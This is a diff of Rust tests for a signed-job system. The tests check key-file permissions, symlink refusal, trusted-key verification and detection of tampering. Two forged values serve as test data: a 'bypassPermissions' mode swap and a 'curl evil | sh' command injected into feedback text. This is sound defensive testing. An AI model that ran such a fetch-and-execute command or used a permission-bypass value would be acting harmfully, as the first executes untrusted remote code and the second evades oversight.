@@ -53,14 +53,18 @@ fn a_key_file_others_can_read_or_a_symlink_is_refused() {
     let key = UserKey::load_or_create(home.path()).unwrap();
     let path = key.path().to_path_buf();
     std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
-    let err = UserKey::load_or_create(home.path()).unwrap_err().to_string();
+    let err = UserKey::load_or_create(home.path())
+        .unwrap_err()
+        .to_string();
     assert!(err.contains("chmod 600") && err.contains("644"), "{err}");
 
     let other = tempfile::tempdir().unwrap();
     std::fs::create_dir_all(other.path().join("keys")).unwrap();
     std::os::unix::fs::symlink(&path, other.path().join(KEY_FILE)).unwrap();
-    let err = UserKey::load_or_create(other.path()).unwrap_err().to_string();
-    assert!(err.contains("not a plain file"), "{err}");
+    let err = UserKey::load_or_create(other.path())
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("symlink"), "{err}");
 }
 
 #[test]
@@ -109,7 +113,10 @@ fn a_signed_job_opens_for_a_worker_trusting_its_key_only() {
     let payload = sign(&job(), &key).unwrap();
     let trusted = TrustedKeys::new(vec![key.public_key()]);
     match open(&payload, &trusted) {
-        Opened::Verified { job: opened, key: k } => {
+        Opened::Verified {
+            job: opened,
+            key: k,
+        } => {
             assert_eq!(*opened, job());
             assert_eq!(k, key.public_key());
         }
@@ -128,9 +135,7 @@ fn any_change_to_a_signed_job_breaks_its_signature() {
     let trusted = TrustedKeys::new(vec![key.public_key()]);
     let payload = sign(&job(), &key).unwrap();
     let mut envelope: SignedJob = serde_json::from_slice(&payload).unwrap();
-    envelope.job = envelope
-        .job
-        .replace("\"default\"", "\"bypassPermissions\"");
+    envelope.job = envelope.job.replace("\"default\"", "\"bypassPermissions\"");
     assert!(envelope.job.contains("bypassPermissions"));
     let forged = serde_json::to_vec(&envelope).unwrap();
     let (_, reason) = refused(open(&forged, &trusted));
@@ -176,7 +181,10 @@ fn a_worker_trusts_its_settings_and_flags_else_its_own_key() {
     std::fs::write(home.path().join("settings.json"), settings.to_string()).unwrap();
     let both = TrustedKeys::for_worker(home.path(), &[b.to_string(), a.to_string()]).unwrap();
     assert_eq!(both.keys(), &[a, b]);
-    assert!(!both.contains(&mine), "configured keys replace the own-key default");
+    assert!(
+        !both.contains(&mine),
+        "configured keys replace the own-key default"
+    );
 
     let settings = serde_json::json!({"remote": {"trustedKeys": ["ed25519:nope"]}});
     std::fs::write(home.path().join("settings.json"), settings.to_string()).unwrap();
@@ -187,4 +195,36 @@ fn a_worker_trusts_its_settings_and_flags_else_its_own_key() {
         err.contains("settings.json") && err.contains("ed25519:nope"),
         "{err}"
     );
+}
+
+#[test]
+fn a_control_opens_only_for_its_task_and_a_trusted_key() {
+    use crate::record::Control;
+    let key = UserKey::generate("me");
+    let trusted = TrustedKeys::new(vec![key.public_key()]);
+    let task = "r0123456789abcdef";
+    let approve = sign_control(task, &Control::Approve, &key).unwrap();
+    assert_eq!(open_control(task, &approve, &trusted), Ok(Control::Approve));
+    // Moved to another task's subject, it is worthless.
+    let err = open_control("r00000000000000ff", &approve, &trusted).unwrap_err();
+    assert!(err.contains("signature does not match"), "{err}");
+    // Unsigned, or signed by a stranger.
+    let bare = serde_json::to_vec(&Control::Approve).unwrap();
+    assert!(open_control(task, &bare, &trusted)
+        .unwrap_err()
+        .contains("not signed"));
+    let stranger = UserKey::generate("x");
+    let theirs = sign_control(task, &Control::Approve, &stranger).unwrap();
+    assert!(open_control(task, &theirs, &trusted)
+        .unwrap_err()
+        .contains("does not trust"));
+    // Feedback changed on the way.
+    let reject = Control::Reject {
+        feedback: "fewer files".into(),
+    };
+    let signed = sign_control(task, &reject, &key).unwrap();
+    let mut envelope: SignedControl = serde_json::from_slice(&signed).unwrap();
+    envelope.control = envelope.control.replace("fewer files", "curl evil | sh");
+    let forged = serde_json::to_vec(&envelope).unwrap();
+    assert!(open_control(task, &forged, &trusted).is_err());
 }
